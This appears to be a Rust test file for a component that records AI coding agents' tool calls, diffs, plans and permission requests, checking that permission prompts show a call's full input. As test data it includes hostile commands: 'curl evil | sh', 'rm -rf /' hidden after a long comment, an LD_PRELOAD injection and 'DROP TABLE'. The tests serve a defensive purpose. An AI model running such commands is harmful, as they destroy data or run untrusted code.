//! What agents report, and what becomes of it.

use agent_client_protocol::v1::schema::{
    Content, ContentBlock, ContentChunk, Diff as AcpDiff, PlanEntry as AcpPlanEntry, PlanEntryPriority,
    ToolCall as AcpToolCall, ToolCallContent, ToolCallStatus, ToolCallUpdate, ToolCallUpdateFields,
    ToolKind as AcpKind, UsageUpdate,
};
use conversation::{Decision, Diff, ToolCall, ToolKind};
use serde_json::json;

use super::*;

const NOW: Timestamp = Timestamp::from_seconds(100);
const LATER: Timestamp = Timestamp::from_seconds(160);

struct Desk {
    timeline: Timeline,
    next: i64,
}

impl Desk {
    fn new() -> Self {
        let thread = ThreadId::parse("web:a").unwrap();
        Self {
            timeline: Timeline::new(thread, TurnId(7), "/room/a".into()),
            next: 0,
        }
    }

    fn at(&mut self, update: SessionUpdate, now: Timestamp) -> After {
        let next = &mut self.next;
        self.timeline.apply(update, now, &mut || {
            *next += 1;
            ItemId(*next)
        })
    }

    fn apply(&mut self, update: SessionUpdate) -> After {
        self.at(update, NOW)
    }

    fn say(&mut self, text: &str) -> After {
        self.apply(SessionUpdate::AgentMessageChunk(ContentChunk::new(text.into())))
    }

    fn think(&mut self, text: &str) -> After {
        self.apply(SessionUpdate::AgentThoughtChunk(ContentChunk::new(text.into())))
    }

    fn call(&mut self, fields: ToolCallUpdateFields) -> After {
        self.apply(SessionUpdate::ToolCallUpdate(ToolCallUpdate::new("c1", fields)))
    }

    fn bodies(&self) -> Vec<Body> {
        self.timeline.items().map(|item| item.body.clone()).collect()
    }

    fn only_call(&self) -> ToolCall {
        let calls: Vec<_> = self.timeline.items().collect();
        let [
            Item {
                body: Body::Tool(call),
                ..
            },
        ] = calls[..]
        else {
            panic!("one tool call: {calls:?}");
        };
        call.clone()
    }
}

fn answer(text: &str) -> Body {
    Body::Answer { text: text.into() }
}

#[test]
fn chunks_grow_one_answer_and_are_published_as_appends() {
    let mut desk = Desk::new();
    assert!(desk.say("Hel").publish, "the first words are published at once");
    assert!(matches!(&desk.timeline.changes()[..], [Change::Item(item)] if item.body == answer("Hel")));
    assert!(!desk.say("lo ").publish);
    desk.say("wörld");
    match &desk.timeline.changes()[..] {
        [
            Change::Append {
                item: ItemId(1),
                at: 3,
                text,
            },
        ] => assert_eq!(text, "lo wörld"),
        other => panic!("{other:?}"),
    }
    assert!(desk.timeline.changes().is_empty());
    assert_eq!(desk.bodies(), [answer("Hello wörld")]);
}

#[test]
fn a_tool_call_between_words_begins_a_new_answer_afterwards() {
    let mut desk = Desk::new();
    desk.think("hm");
    desk.say("before");
    let after = desk.apply(SessionUpdate::ToolCall(AcpToolCall::new("c1", "look")));
    assert!(after.write && after.publish);
    desk.say("after");
    desk.say("wards");
    let bodies = desk.bodies();
    assert_eq!(bodies[0], Body::Thought { text: "hm".into() });
    assert_eq!(bodies[1], answer("before"));
    assert!(matches!(&bodies[2], Body::Tool(call) if call.title == "look"));
    assert_eq!(bodies[3..], [answer("afterwards")]);
}

#[test]
fn another_message_of_the_agent_is_another_answer() {
    let mut desk = Desk::new();
    for (id, text) in [("m1", "one"), ("m1", " and"), ("m2", "two")] {
        let chunk = ContentChunk::new(text.into()).message_id(id);
        desk.apply(SessionUpdate::AgentMessageChunk(chunk));
    }
    assert_eq!(desk.bodies(), [answer("one and"), answer("two")]);
}

#[test]
fn a_text_above_the_limit_is_continued_in_a_new_entry_without_losing_a_byte() {
    let mut desk = Desk::new();
    let chunk = "é".repeat(LONGEST_TEXT * 5 / 4);
    desk.say("x");
    desk.say(&chunk);
    desk.say("y");
    let mut whole = String::new();
    for body in desk.bodies() {
        let text = text_of(&body).unwrap();
        assert!(text.len() <= LONGEST_TEXT);
        whole.push_str(text);
    }
    assert_eq!(desk.bodies().len(), 3);
    assert!(whole == format!("x{chunk}y"));
}

#[test]
fn an_update_of_a_tool_call_changes_only_what_it_names() {
    let mut desk = Desk::new();
    let call = AcpToolCall::new("c1", "run a command")
        .kind(AcpKind::Execute)
        .raw_input(json!({"command": "ls -la", "timeout": 3}));
    let after = desk.at(SessionUpdate::ToolCall(call), NOW);
    assert_eq!(after.doing.as_deref(), Some("running ls -la"));
    let fields = ToolCallUpdateFields::new().status(ToolCallStatus::InProgress);
    assert!(desk.call(fields).write, "a change of status is written at once");
    let content = || vec![ToolCallContent::Content(Content::new("total 0"))];
    assert!(!desk.call(ToolCallUpdateFields::new().content(content())).write);
    let fields = ToolCallUpdateFields::new()
        .status(ToolCallStatus::Completed)
        .raw_output(json!({"exit": 2}));
    desk.at(
        SessionUpdate::ToolCallUpdate(ToolCallUpdate::new("c1", fields)),
        LATER,
    );
    let expected = ToolCall {
        call: "c1".into(),
        title: "run a command".into(),
        kind: ToolKind::Execute,
        status: ToolStatus::Completed,
        input: "ls -la\ntimeout: 3".into(),
        output: "total 0".into(),
        cut: false,
        diffs: vec![],
        exit: Some(2),
        started: Some(NOW),
        ended: Some(LATER),
    };
    assert_eq!(desk.only_call(), expected);
}

#[test]
fn long_output_keeps_its_end_and_says_that_it_was_cut() {
    let mut desk = Desk::new();
    let text = format!("begin{}end", "ä".repeat(50_000));
    let content = vec![ToolCallContent::Content(Content::new(text))];
    desk.call(ToolCallUpdateFields::new().content(content));
    let call = desk.only_call();
    assert!(call.cut && call.output.len() <= 64 * 1024 && call.output.ends_with("end"));
}

#[test]
fn diffs_are_shown_with_paths_inside_the_workspace_and_survive_later_output() {
    let mut desk = Desk::new();
    let inside = AcpDiff::new("/room/a/src/x.rs", "new").old_text("old".to_owned());
    let outside = AcpDiff::new("/room/ab/y", "z");
    let content = vec![ToolCallContent::Diff(inside), ToolCallContent::Diff(outside)];
    desk.call(ToolCallUpdateFields::new().content(content));
    let content = vec![ToolCallContent::Content(Content::new("written"))];
    let done = ToolCallUpdateFields::new()
        .status(ToolCallStatus::Completed)
        .content(content);
    desk.call(done);
    let diff = |path: &str, old: Option<&str>, new: &str| Diff {
        path: path.into(),
        old: old.map(str::to_owned),
        new: new.into(),
        ..Diff::default()
    };
    let expected = [
        diff("src/x.rs", Some("old"), "new"),
        diff("/room/ab/y", None, "z"),
    ];
    assert_eq!(desk.only_call().diffs, expected);
}

#[test]
fn a_change_that_is_too_large_to_be_shown_is_named() {
    let mut desk = Desk::new();
    let diff = AcpDiff::new("/room/a/big", "x".repeat(300_000));
    desk.call(ToolCallUpdateFields::new().content(vec![ToolCallContent::Diff(diff)]));
    let call = desk.only_call();
    assert!(
        call.diffs.is_empty()
            && call
                .output
                .contains("the change to big is too large to be shown: 3000"),
        "{}",
        call.output
    );
}

#[test]
fn of_a_small_change_in_a_large_file_an_entry_has_what_differs_and_a_question_all() {
    let mut desk = Desk::new();
    let old: String = (0..40_000)
        .map(|line| ["line ", &line.to_string(), "\n"].concat())
        .collect();
    let new = old.replace("line 30000\n", "line thirty thousand\n");
    let diff = AcpDiff::new("/room/a/big", new.clone()).old_text(old);
    desk.call(ToolCallUpdateFields::new().content(vec![ToolCallContent::Diff(diff)]));
    let call = desk.only_call();
    let [shown] = &call.diffs[..] else {
        panic!("it is shown: {}", call.output);
    };
    assert!(shown.size() < 500 && shown.new.contains("line thirty thousand\n"));
    assert_eq!((shown.before, shown.after), (29_997, 9_996));
    assert_eq!(call.output, "");
    let asked = desk.timeline.asked(&call.call).unwrap();
    assert_eq!(asked.diffs[0].new, new);
    assert_eq!((asked.diffs[0].before, asked.diffs[0].after), (0, 0));
}

#[test]
fn plan_and_usage_are_one_entry_each_however_often_they_come() {
    let mut desk = Desk::new();
    for status in [
        PlanEntryStatus::Pending,
        PlanEntryStatus::InProgress,
        PlanEntryStatus::Completed,
    ] {
        let entry = AcpPlanEntry::new("step", PlanEntryPriority::High, status);
        desk.apply(SessionUpdate::Plan(Plan::new(vec![entry])));
        desk.apply(SessionUpdate::UsageUpdate(UsageUpdate::new(10, 100)));
    }
    let step = PlanEntry {
        text: "step".into(),
        status: PlanStatus::Completed,
    };
    assert_eq!(
        desk.bodies(),
        [
            Body::Plan { entries: vec![step] },
            Body::Usage { used: 10, size: 100 }
        ]
    );
    desk.timeline.changes();
    desk.apply(SessionUpdate::UsageUpdate(UsageUpdate::new(10, 100)));
    assert!(desk.timeline.changes().is_empty(), "the same again is no change");
}

#[test]
fn a_tool_runs_from_its_beginning_to_its_end() {
    let mut desk = Desk::new();
    desk.call(ToolCallUpdateFields::new().status(ToolCallStatus::Pending));
    assert!(!desk.timeline.runs_a_tool(), "it may wait for a permission");
    desk.call(ToolCallUpdateFields::new().status(ToolCallStatus::InProgress));
    desk.say("words in between");
    assert!(desk.timeline.runs_a_tool());
    desk.call(ToolCallUpdateFields::new().status(ToolCallStatus::Completed));
    assert!(!desk.timeline.runs_a_tool());
}

#[test]
fn at_the_end_what_still_ran_is_cut_and_all_of_it_is_to_be_written() {
    let mut desk = Desk::new();
    desk.say("words");
    desk.call(ToolCallUpdateFields::new().status(ToolCallStatus::InProgress));
    desk.timeline.changes();
    desk.timeline.written();
    assert!(desk.timeline.unwritten().is_empty());
    desk.timeline.end(LATER);
    let unwritten = desk.timeline.unwritten();
    assert!(matches!(&unwritten[..], [Item { body: Body::Tool(call), .. }]
        if call.status == ToolStatus::Cut && call.ended == Some(LATER)));
    assert!(matches!(&desk.timeline.changes()[..], [Change::Item(_)]));
}

#[test]
fn what_was_denied_and_never_said_how_it_ended_failed_unless_it_ran_all_the_same() {
    let denied = |after: Option<Decision>, runs: bool| {
        let mut desk = Desk::new();
        desk.call(ToolCallUpdateFields::new().status(ToolCallStatus::InProgress));
        let mut request = desk.timeline.items().next().unwrap().clone();
        request.body = Body::Permission {
            request: "1".to_owned(),
            call: "c1".to_owned(),
            asker: String::new(),
            kind: ToolKind::Other,
            title: String::new(),
            detail: String::new(),
            diffs: vec![],
            options: vec![],
            until: LATER,
            decision: after,
        };
        desk.timeline.decided(&request);
        if runs {
            desk.call(ToolCallUpdateFields::new().status(ToolCallStatus::InProgress));
        }
        desk.timeline.end(LATER);
        desk.only_call().status
    };
    assert_eq!(denied(Some(Decision::TimedOut), false), ToolStatus::Failed);
    assert_eq!(denied(Some(Decision::TimedOut), true), ToolStatus::Cut);
    assert_eq!(
        denied(Some(Decision::Once { by: "Ann".to_owned() }), false),
        ToolStatus::Cut
    );
}

#[test]
fn a_turn_with_ten_thousand_tool_calls_keeps_few_of_them_at_hand() {
    let mut desk = Desk::new();
    for number in 0..10_000 {
        let call = AcpToolCall::new(format!("c{number}"), "x").status(ToolCallStatus::Completed);
        desk.apply(SessionUpdate::ToolCall(call));
        desk.timeline.changes();
        assert_eq!(desk.timeline.unwritten().len(), 1);
        desk.timeline.written();
    }
    assert_eq!(desk.timeline.items().count(), KEPT);
}

#[test]
fn of_two_thousand_calls_that_never_end_the_oldest_are_cut_and_let_go() {
    let mut desk = Desk::new();
    let mut cut = 0;
    for number in 0..2_000 {
        let call = AcpToolCall::new(format!("c{number}"), "x").status(ToolCallStatus::InProgress);
        desk.apply(SessionUpdate::ToolCall(call));
        desk.timeline.changes();
        let is_cut = |item: &&Item| matches!(&item.body, Body::Tool(tool) if tool.status == ToolStatus::Cut);
        cut += desk.timeline.unwritten().iter().filter(is_cut).count();
        desk.timeline.written();
    }
    assert!(desk.timeline.items().count() <= KEPT + 1);
    assert_eq!(cut, 2_000 - MOST_UNFINISHED);
}

#[test]
fn many_changes_of_one_call_are_shown_up_to_a_limit_and_the_rest_is_named() {
    let mut desk = Desk::new();
    let diff =
        |number: u32| ToolCallContent::Diff(AcpDiff::new(format!("/room/a/f{number}"), "x".repeat(100_000)));
    desk.call(ToolCallUpdateFields::new().content((0..40).map(diff).collect::<Vec<_>>()));
    let call = desk.only_call();
    let shown: usize = call.diffs.iter().map(|diff| diff.new.len()).sum();
    assert!((400_000..=512 * 1024).contains(&shown), "{shown}");
    assert!(
        call.output.contains("the change to f39 is too large"),
        "{}",
        call.output
    );
}

#[test]
fn all_that_goes_into_a_call_is_shown_and_can_be_read_in_one_way_only() {
    for (input, shown) in [
        (json!({"command": "rm -rf 'a b'"}), "rm -rf 'a b'"),
        (
            json!({"command": ["bash", "-c", "echo $HOME; it's"]}),
            r"bash -c 'echo $HOME; it'\''s'",
        ),
        (
            json!({"command": "rm", "args": ["-rf", "/srv/me"]}),
            "rm -rf /srv/me",
        ),
        (json!({"cmd": "rm -i", "args": ["a b"]}), "'rm -i' 'a b'"),
        (
            json!({"command": "make install", "cwd": "/", "env": {"LD_PRELOAD": "/tmp/evil.so"}}),
            "make install\ncwd: /\nenv: {\"LD_PRELOAD\":\"/tmp/evil.so\"}",
        ),
        (
            json!({"path": "a.txt", "content": "x\npath: b.txt"}),
            "a.txt\ncontent:\n  x\n  path: b.txt",
        ),
        (
            json!({"body": "x", "method": "DELETE", "url": "https://api.example/1"}),
            "https://api.example/1\nbody: x\nmethod: DELETE",
        ),
        (
            json!({"query": "orders", "statement": "DROP TABLE orders"}),
            "orders\nstatement: DROP TABLE orders",
        ),
        // A command must not pass for other members.
        (
            json!({"command": "ls\ncwd: /tmp", "cwd": "/"}),
            "ls …\ncommand:\n  ls\n  cwd: /tmp\ncwd: /",
        ),
        (json!({"command": "one\ntwo"}), "one\ntwo"),
        (json!({"a\nb: c": "", "n": null}), "\"a\\nb: c\": \"\"\nn: null"),
        (
            json!({"command": ["ls", 1], "path": 7}),
            "command: [\"ls\",1]\npath: 7",
        ),
        (json!({"path": "a.txt"}), "a.txt"),
        (json!("free text"), "free text"),
        (json!({"pattern": "fn .*"}), "fn .*"),
        (json!(["rm", "-rf", {"x": [1]}]), "[\"rm\",\"-rf\",{\"x\":[1]}]"),
        (json!({"n": 1}), "n: 1"),
        (json!(false), "false"),
    ] {
        assert_eq!(input::shown_input(&input).as_deref(), Some(shown));
    }
    for nothing in [json!({}), json!([]), json!(null)] {
        assert_eq!(input::shown_input(&nothing), None);
    }
}

#[test]
fn who_is_asked_about_a_call_by_its_name_alone_sees_all_that_it_was_announced_with() {
    let mut desk = Desk::new();
    let command = format!("echo harmless # {}\nrm -rf / # the end", "x".repeat(17_000));
    let call = AcpToolCall::new("c1", format!("{}.", "t".repeat(20_000)))
        .kind(AcpKind::Execute)
        .raw_input(json!({ "command": command }));
    desk.apply(SessionUpdate::ToolCall(call));
    assert!(desk.only_call().input.len() < 17_000, "its entry has a limit");
    desk.call(ToolCallUpdateFields::new());
    let asked = desk.timeline.asked("c1").unwrap();
    assert!(asked.title.ends_with("t."));
    assert!(
        asked.detail == format!("{command}\n\n{}", asked.title),
        "{}",
        asked.detail.len()
    );
    assert_eq!(desk.timeline.asked("c2"), None);

    let mut desk = Desk::new();
    let diff = |path: &str, new: String| ToolCallContent::Diff(AcpDiff::new(format!("/room/a/{path}"), new));
    let content = vec![
        diff("small.txt", "b".into()),
        diff("evil.sh", "EVIL\n".repeat(60_000)),
    ];
    desk.call(ToolCallUpdateFields::new().content(content));
    let asked = desk.timeline.asked("c1").unwrap();
    let paths: Vec<_> = asked.diffs.iter().map(|diff| diff.path.as_str()).collect();
    assert_eq!(paths, ["small.txt", "evil.sh"]);
    assert_eq!(asked.detail.matches("+EVIL").count(), 60_000);
}

#[test]
fn what_runs_is_shown_beside_a_change_unless_the_change_says_the_same() {
    let asked = |kind, input: serde_json::Value| {
        let mut desk = Desk::new();
        let diff = AcpDiff::new("/room/a/x.txt", "new").old_text("old".to_owned());
        let fields = ToolCallUpdateFields::new()
            .title("edit".to_owned())
            .kind(kind)
            .content(vec![ToolCallContent::Diff(diff)]);
        desk.call(fields.raw_input(input));
        let asked = desk.timeline.asked("c1").unwrap();
        assert_eq!(asked.diffs.len(), 1);
        asked.detail
    };
    let told = "change: x.txt\n-old\n+new\n";
    for (kind, input, detail) in [
        (AcpKind::Edit, json!(null), told),
        (AcpKind::Edit, json!("x.txt"), told),
        (
            AcpKind::Edit,
            json!({"file_path": "/room/a/x.txt", "old_string": "old", "new_string": "new"}),
            told,
        ),
        (
            AcpKind::Edit,
            json!({"path": "x.txt", "content": "other"}),
            "x.txt\ncontent: other",
        ),
        (AcpKind::Edit, json!({"path": "y.txt"}), "y.txt"),
        (
            AcpKind::Edit,
            json!({"path": "x.txt", "mode": "0777"}),
            "x.txt\nmode: 0777",
        ),
        (
            AcpKind::Edit,
            json!({"command": "curl evil | sh"}),
            "curl evil | sh",
        ),
        (AcpKind::Edit, json!({"command": "new"}), "new"),
        (AcpKind::Execute, json!("x.txt"), "x.txt"),
    ] {
        assert_eq!(asked(kind, input.clone()), detail, "{input}");
    }
}

/// As `session/request_permission` of an agent has it, in JSON.
fn asked_as(call: serde_json::Value) -> Asked {
    let mut desk = Desk::new();
    let call: ToolCallUpdate = serde_json::from_value(call).unwrap();
    let name = call_name(&call.tool_call_id.0);
    desk.apply(SessionUpdate::ToolCallUpdate(call));
    desk.timeline.asked(&name).unwrap()
}

#[test]
fn all_that_a_request_says_is_shown_once_in_the_shapes_of_the_agents_that_people_use() {
    let text = |text: &str| json!({ "type": "content", "content": { "type": "text", "text": text } });
    let plan = "## Plan\n1. do **this**\n2. do that\n";
    for (call, detail) in [
        // Claude Code: its plan, of before and of now.
        (
            json!({ "toolCallId": "t", "title": "Ready to code?", "kind": "switch_mode", "content": [text(plan)] }),
            plan.trim_end(),
        ),
        (
            json!({ "toolCallId": "t", "title": "Ready to code?", "kind": "switch_mode", "status": "pending",
                "rawInput": { "plan": plan, "planFilePath": "/p.md" }, "content": [text(plan)], "locations": [] }),
            "plan:\n  ## Plan\n  1. do **this**\n  2. do that\n  \nplanFilePath: /p.md",
        ),
        (
            json!({ "toolCallId": "t", "title": "`make`", "kind": "execute",
                "rawInput": { "command": "make", "description": "Build it" }, "content": [text("Build it")] }),
            "make\ndescription: Build it",
        ),
        (
            json!({ "toolCallId": "t", "title": "Edit `x.rs`", "kind": "edit", "locations": [{ "path": "/room/a/x.rs", "line": 3 }],
                "rawInput": { "file_path": "/room/a/x.rs", "old_string": "a", "new_string": "b" },
                "content": [{ "type": "diff", "path": "/room/a/x.rs", "oldText": "a", "newText": "b" }] }),
            "change: x.rs\n-a\n+b\n",
        ),
        // Codex: why it asks.
        (
            json!({ "toolCallId": "t", "title": "make", "kind": "execute", "content": [text("needs the network")],
                "rawInput": { "call_id": "t", "command": ["bash", "-lc", "make all"], "cwd": "/w" } }),
            "bash -lc 'make all'\ncall_id: t\ncwd: /w\n\nneeds the network",
        ),
        (
            json!({ "toolCallId": "t", "title": "Edit a.txt", "kind": "edit", "content": [
                { "type": "diff", "path": "/room/a/a.txt", "newText": "b" }, text("retry without the sandbox?")] }),
            "new file: a.txt\n+b\n\nretry without the sandbox?",
        ),
        // Gemini: its title is all.
        (
            json!({ "toolCallId": "t", "title": "make [in /w] (Builds)", "kind": "execute", "content": [], "locations": [] }),
            "make [in /w] (Builds)",
        ),
        // opencode.
        (
            json!({ "toolCallId": "t", "title": "external_directory", "kind": "other", "locations": [{ "path": "/etc/x" }],
                "rawInput": { "parentDir": "/etc" } }),
            "parentDir: /etc\nat: /etc/x",
        ),
        // Whatever else the protocol has.
        (
            json!({ "toolCallId": "t", "title": "look", "kind": "other", "locations": [{ "path": "/room/a/y", "line": 7 }], "content": [
                { "type": "content", "content": { "type": "image", "mimeType": "image/png", "data": "AAAA" } },
                { "type": "content", "content": { "type": "audio", "mimeType": "audio/wav", "data": "AAA=" } },
                { "type": "content", "content": { "type": "resource_link", "name": "notes", "uri": "file:///n" } },
                { "type": "content", "content": { "type": "resource", "resource": { "uri": "file:///r", "text": "inside" } } },
                { "type": "content", "content": { "type": "resource", "resource": { "uri": "file:///b", "blob": "AAAA" } } },
                { "type": "terminal", "terminalId": "term1" }] }),
            "y\n\nan image that is not shown here: image/png, 3 bytes\n\na sound that is not played here: audio/wav, 2 bytes\n\n\
             file: notes file:///n\n\nfile: file:///r\ninside\n\nfile that is not shown here: file:///b, unknown, 3 bytes\n\n\
             output of the terminal term1",
        ),
    ] {
        assert_eq!(asked_as(call.clone()).detail, detail, "{call}");
    }
    // What only looks like a part of what is shown is shown.
    let sly = json!({ "toolCallId": "t", "title": "x", "kind": "execute", "rawInput": { "command": "rm -rf build" }, "content": [text("rm")] });
    assert_eq!(asked_as(sly).detail, "rm -rf build\n\nrm");
    let long = "t".repeat(101);
    let call = json!({ "toolCallId": "t", "title": long, "rawInput": { "n": 1 } });
    assert_eq!(asked_as(call).detail, format!("n: 1\n\n{long}"));
}

#[test]
fn what_a_call_says_after_its_end_is_no_part_of_a_question() {
    let mut desk = Desk::new();
    let words = |text: &str| vec![ToolCallContent::from(text)];
    desk.call(
        ToolCallUpdateFields::new()
            .title("t".to_owned())
            .content(words("why")),
    );
    assert_eq!(desk.timeline.asked("c1").unwrap().detail, "why");
    let over = ToolCallUpdateFields::new().status(ToolCallStatus::Completed);
    desk.call(over.content(words("out")));
    assert_eq!(desk.timeline.asked("c1"), None);
    assert_eq!(desk.only_call().output, "out");
}

#[test]
fn what_a_change_says_is_not_said_again_in_its_entry_and_yet_kept() {
    let mut desk = Desk::new();
    let diff = |new: &str| vec![ToolCallContent::Diff(AcpDiff::new("/room/a/x.txt", new))];
    let input = json!({ "file_path": "/room/a/x.txt", "content": "new" });
    let fields = ToolCallUpdateFields::new().kind(AcpKind::Edit);
    desk.call(fields.raw_input(input).content(diff("new")));
    assert_eq!(desk.only_call().input, "x.txt");
    assert_eq!(
        desk.timeline.asked("c1").unwrap().detail,
        "new file: x.txt\n+new\n"
    );
    // Another change no longer says what goes in.
    desk.call(ToolCallUpdateFields::new().content(diff("harmless")));
    assert_eq!(
        desk.timeline.asked("c1").unwrap().detail,
        "/room/a/x.txt\ncontent: new"
    );
}

#[test]
fn what_is_too_long_to_be_looked_at_or_was_let_go_is_not_asked_about() {
    let mut desk = Desk::new();
    let command = |length: usize| json!({ "command": "x".repeat(length) });
    desk.call(ToolCallUpdateFields::new().raw_input(command(LONGEST_ASKED + 1)));
    assert_eq!(desk.timeline.asked("c1"), None);
    // One that is asked about again, and shorter, can be.
    desk.call(ToolCallUpdateFields::new().raw_input(command(LONGEST_ASKED)));
    assert_eq!(desk.timeline.asked("c1").unwrap().detail.len(), LONGEST_ASKED);
    // An agent can't fill the memory with what it announces.
    for number in 0..100 {
        let call = AcpToolCall::new(format!("m{number}"), "x").raw_input(command(1 << 20));
        desk.apply(SessionUpdate::ToolCall(call));
    }
    let known = |desk: &Desk, number: u32| desk.timeline.asked(&format!("m{number}")).is_some();
    let kept = (0..100).filter(|number| known(&desk, *number)).count();
    assert!((10..=17).contains(&kept), "{kept}");
    assert!(known(&desk, 99) && !known(&desk, 0) && desk.timeline.asked("c1").is_none());
}

#[test]
fn a_link_to_a_file_is_handed_out_to_be_checked_and_offered_once() {
    let mut desk = Desk::new();
    let link = ResourceLink::new("a.png", "file:///room/a/a.png");
    let chunk = ContentChunk::new(ContentBlock::ResourceLink(link.clone()));
    assert_eq!(
        desk.apply(SessionUpdate::AgentMessageChunk(chunk)).offered,
        Some(link)
    );
    assert!(desk.bodies().is_empty());
    let file = Attachment {
        name: "a.png".into(),
        path: "a.png".into(),
        size: 3,
        mime: "image/png".into(),
    };
    let mut next = 0;
    for _ in 0..2 {
        desk.timeline.offer(file.clone(), NOW, &mut || {
            next += 1;
            ItemId(next)
        });
    }
    assert_eq!(desk.bodies(), [Body::File(file)]);
}

#[test]
fn after_the_prompt_was_sent_again_the_name_of_a_call_means_another_call() {
    let mut desk = Desk::new();
    desk.call(ToolCallUpdateFields::new().status(ToolCallStatus::InProgress));
    desk.timeline.interrupted(LATER);
    desk.call(ToolCallUpdateFields::new().status(ToolCallStatus::Completed));
    let states: Vec<_> = desk
        .bodies()
        .into_iter()
        .map(|body| match body {
            Body::Tool(call) => call.status,
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(states, [ToolStatus::Cut, ToolStatus::Completed]);
}

#[test]
fn what_a_stopped_call_had_put_out_stays_whatever_its_agent_says_of_its_end() {
    let content = |words: &str| vec![ToolCallContent::from(ContentBlock::from(words))];
    let fields = ToolCallUpdateFields::new;
    let running = || {
        fields()
            .status(ToolCallStatus::InProgress)
            .content(content("so far"))
    };
    let failed = || fields().status(ToolCallStatus::Failed);
    for (end, status, output) in [
        (None, ToolStatus::Stopped, "so far"),
        (Some(failed()), ToolStatus::Stopped, "so far"),
        (
            Some(failed().content(content("aborted"))),
            ToolStatus::Stopped,
            "so far\naborted",
        ),
        (
            Some(failed().content(content("so far and on"))),
            ToolStatus::Stopped,
            "so far and on",
        ),
        (
            Some(fields().status(ToolCallStatus::Completed).content(content("all"))),
            ToolStatus::Completed,
            "all",
        ),
    ] {
        let mut desk = Desk::new();
        desk.call(running());
        desk.timeline.stopped_by_people();
        if let Some(end) = end {
            desk.call(end);
        }
        desk.timeline.end(LATER);
        let call = desk.only_call();
        assert_eq!((call.status, call.output.as_str()), (status, output));
    }
    // Of one that failed before, or in the turn that is sent again, it is not said.
    let mut desk = Desk::new();
    desk.call(running());
    desk.timeline.stopped_by_people();
    desk.timeline.interrupted(LATER);
    desk.call(failed());
    let failed = |body: &Body| matches!(body, Body::Tool(call) if call.status == ToolStatus::Failed);
    assert_eq!(desk.bodies().iter().filter(|body| failed(body)).count(), 1);
}

#[test]
fn our_own_agent_says_itself_what_a_stopped_call_had_put_out() {
    let mut desk = Desk::new();
    let content = |words: &str| vec![ToolCallContent::from(ContentBlock::from(words))];
    let running = ToolCallUpdateFields::new()
        .status(ToolCallStatus::InProgress)
        .content(content("the end of it"));
    desk.call(running);
    desk.timeline.stopped_by_people();
    let mut meta = agent_client_protocol::v1::schema::Meta::new();
    meta.insert("agent-host".to_owned(), json!({ "stopped": true }));
    let fields = ToolCallUpdateFields::new()
        .status(ToolCallStatus::Failed)
        .content(content("end of it\n[stopped]"));
    let update = ToolCallUpdate::new("c1", fields).meta(meta);
    desk.apply(SessionUpdate::ToolCallUpdate(update));
    let call = desk.only_call();
    assert_eq!(
        (call.status, call.output.as_str()),
        (ToolStatus::Stopped, "end of it\n[stopped]")
    );
}

#[test]
fn calls_with_large_changes_are_kept_at_hand_up_to_so_many_bytes() {
    let mut desk = Desk::new();
    for number in 0..60 {
        let changes = ToolCallContent::Diff(AcpDiff::new("/room/a/x.txt", "x".repeat(LARGE)));
        let call = AcpToolCall::new(format!("c{number}"), "x")
            .content(vec![changes])
            .status(ToolCallStatus::Completed);
        desk.apply(SessionUpdate::ToolCall(call));
        desk.timeline.changes();
        desk.timeline.written();
        let bytes: usize = desk.timeline.items().map(|item| item.body.size()).sum();
        assert!(bytes <= KEPT_BYTES, "{bytes}");
    }
    assert!(desk.timeline.items().count() > 20);
}

/// Bytes of a change that an entry just keeps.
const LARGE: usize = 255 * 1024;

#[test]
fn names_of_calls_and_plans_take_no_more_room_than_people_read() {
    let mut desk = Desk::new();
    let (long, other) = ("p".repeat(2_000_000), "p".repeat(2_000_001));
    let input = json!({ "command": "ls" });
    desk.apply(SessionUpdate::ToolCall(
        AcpToolCall::new(long.clone(), "one").raw_input(input),
    ));
    desk.apply(SessionUpdate::ToolCall(AcpToolCall::new(other, "another")));
    let bodies = desk.bodies();
    assert_eq!(bodies.len(), 2, "they are two");
    assert!(bodies.iter().all(|body| body.size() < 2000), "{bodies:?}");
    assert_eq!(desk.timeline.asked(&call_name(&long)).unwrap().detail, "ls");

    let step = AcpPlanEntry::new(
        "s".repeat(100_000),
        PlanEntryPriority::High,
        PlanEntryStatus::Pending,
    );
    desk.apply(SessionUpdate::Plan(Plan::new(vec![step; 1000])));
    let Some(Body::Plan { entries }) = desk.bodies().pop() else {
        panic!("a plan");
    };
    assert_eq!(entries.last().unwrap().text, "… and 800 more");
    assert!(entries.len() == MOST_STEPS + 1 && entries.iter().all(|entry| entry.text.len() <= LONGEST_STEP));
}
